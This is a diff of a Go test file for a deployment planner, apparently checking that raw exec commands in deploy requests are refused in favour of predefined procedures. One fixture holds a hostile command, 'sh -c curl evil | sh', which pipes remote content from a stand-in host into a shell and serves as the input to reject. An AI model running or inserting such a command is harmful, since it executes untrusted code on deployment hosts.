@@ -233,12 +233,72 @@ func TestDriverFromHostOrRequest(t *testing.T) {
 		t.Fatalf("host drivers not used: %+v", p.Hosts)
 	}
 	req.Driver = exec
-	p, err = Build(req, env(hs), now)
+	allowing := env(hs)
+	allowing.AllowRequestCommands = true
+	p, err = Build(req, allowing, now)
 	if err != nil {
 		t.Fatal(err)
 	}
 	if p.Hosts["web-02"].Driver.Exec == nil {
 		t.Fatalf("request driver does not win: %+v", p.Hosts["web-02"])
+	}
+}
+
+func TestProcedures(t *testing.T) {
+	deploy := contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"/opt/deploy", "{{index .Params \"channel\"}}"}}}
+	inv := env(hosts(2))
+	inv.Procedures = map[string]contracts.Procedure{
+		"deploy":   {Driver: deploy},
+		"api-only": {Driver: deploy, Apps: []string{"api"}},
+	}
+	command := &contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"sh", "-c", "curl evil | sh"}}}
+	for _, tc := range []struct {
+		name      string
+		edit      func(*contracts.DeployRequest, *contracts.Environment)
+		wantField string
+		wantMsg   string
+	}{
+		{name: "request command refused", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) { r.Driver = command },
+			wantField: "driver.exec.command", wantMsg: "defined: api-only, deploy"},
+		{name: "request command refused without procedures", edit: func(r *contracts.DeployRequest, e *contracts.Environment) {
+			r.Driver = command
+			e.Procedures = nil
+		}, wantField: "driver.exec.command", wantMsg: "it defines none"},
+		{name: "unknown procedure", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) { r.Driver, r.Procedure = nil, "nope" },
+			wantField: "procedure", wantMsg: `unknown procedure "nope"`},
+		{name: "procedure of another app", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) { r.Driver, r.Procedure = nil, "api-only" },
+			wantField: "procedure", wantMsg: `is for api, not "web"`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			req, e := request(contracts.PhaseSpec{Name: "all"}), inv
+			tc.edit(&req, &e)
+			_, err := Build(req, e, now)
+			fe := contracts.AsFieldErrors(err)
+			if len(fe) != 1 || fe[0].Field != tc.wantField || !strings.Contains(fe[0].Message, tc.wantMsg) {
+				t.Fatalf("Build = %v, want one problem on %s containing %q", err, tc.wantField, tc.wantMsg)
+			}
+		})
+	}
+
+	req := request(contracts.PhaseSpec{Name: "all"})
+	req.Driver, req.Procedure, req.Params = nil, "deploy", map[string]string{"channel": "stable"}
+	p, err := Build(req, inv, now)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, h := range p.Hosts {
+		if !reflect.DeepEqual(h.Driver, deploy) {
+			t.Fatalf("host %s driver %+v, want the procedure's", name, h.Driver)
+		}
+	}
+	// A simulated driver runs no command and stays allowed.
+	req.Procedure, req.Driver = "", sim()
+	if _, err := Build(req, inv, now); err != nil {
+		t.Fatalf("sim driver refused: %v", err)
+	}
+	req.Procedure = "deploy"
+	if err := req.Validate(); !strings.Contains(fmt.Sprint(err), "procedure: cannot be combined with driver") {
+		t.Fatalf("procedure with driver: %v", err)
 	}
 }
 
